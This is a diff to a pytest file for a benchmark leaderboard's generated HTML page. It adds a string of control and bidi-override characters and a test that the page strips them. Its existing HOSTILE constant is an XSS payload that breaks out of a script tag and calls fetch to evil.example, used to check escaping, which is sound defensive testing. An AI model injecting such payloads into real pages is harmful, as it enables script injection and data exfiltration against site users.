@@ -7,11 +7,13 @@ import re
 import shutil
 from pathlib import Path
 
+import msgspec
 import pytest
 from bench.builtin.leaderboard.board import bench_board, bench_publish
 from board_toy import SUITE, TASKS, made_up, whole_suite
 
 from bench.builtin.leaderboard import _suite
+from bench.cards import TrackCard
 from bench.plugins.registry import Registry
 
 for library in ("altair", "itables", "vl_convert", "playwright", "axe_playwright_python"):
@@ -31,6 +33,7 @@ needs_browser = pytest.mark.skipif(
     BROWSER is None, reason="no Chromium is installed; run: make browser"
 )
 HOSTILE = "</script><script>fetch('https://evil.example/')</script><img src=x onerror=alert(1)>"
+CONTROL = "a\x1b[31mred\x00\udcff\u202eb"
 TRACKS = ("noisy-labels", "selection", "privacy-audit")
 NEWEST = _suite.read_suite(_suite.find(None)).name
 HISTORY = [
@@ -96,6 +99,9 @@ def page_file(tmp_path_factory):
         for name, card in cards.items()
         if name.partition("/")[2] in methods.get(name.partition("/")[0], ())
     }
+    cards["noisy-labels/elr"] = msgspec.structs.replace(
+        cards["noisy-labels/elr"], title=f"Early {CONTROL}", claim=f"It holds {CONTROL}"
+    )
     records = whole_suite(suite, tasks, methods, curves=12)
     records += [
         made_up("noisy-labels", "noisy-digits", "sym40", HOSTILE, 0, "acc_last", 60.0),
@@ -109,10 +115,20 @@ def page_file(tmp_path_factory):
     picture = io.BytesIO()
     Image.fromarray(np.arange(600, dtype=np.uint8).reshape(20, 30)).save(picture, "PNG")
     history_parquet(HISTORY, folder / "history.parquet")
-    board = bench_board(records, tasks, {"suite": str(plain), "cards": cards})
+    tracks = {
+        "privacy-audit": TrackCard(
+            name="privacy-audit",
+            title=f"Privacy {CONTROL}",
+            about=f"About {CONTROL}",
+            field="privacy",
+            ranked="audits",
+        )
+    }
+    board = bench_board(records, tasks, {"suite": str(plain), "cards": cards, "tracks": tracks})
     options = {
         "tasks": tasks,
         "cards": cards,
+        "tracks": tracks,
         "load": lambda ids: (record for record in records if record.id in ids),
         "picture": lambda *_: picture.getvalue(),
         "page": True,
@@ -180,6 +196,16 @@ def test_the_page_is_small_and_holds_no_text_of_a_record_unescaped(page_file):
     }
     assert list(found.values()) == [False, False, True, False]
     assert re.findall(r'(?:src|href)="https?://(?!arxiv\.org/abs/)[^"]*', markup) == []
+
+
+def test_the_page_holds_no_control_character_of_a_card(page_file):
+    text = page_file.read_text()
+    assert {character for character in text if not character.isprintable()} == {"\n"}
+    shown = {
+        piece: f"{piece} a [31mred   b" in text
+        for piece in ("Early", "It holds", "Privacy", "About")
+    }
+    assert all(shown.values()), shown
 
 
 @pytest.fixture(scope="module")
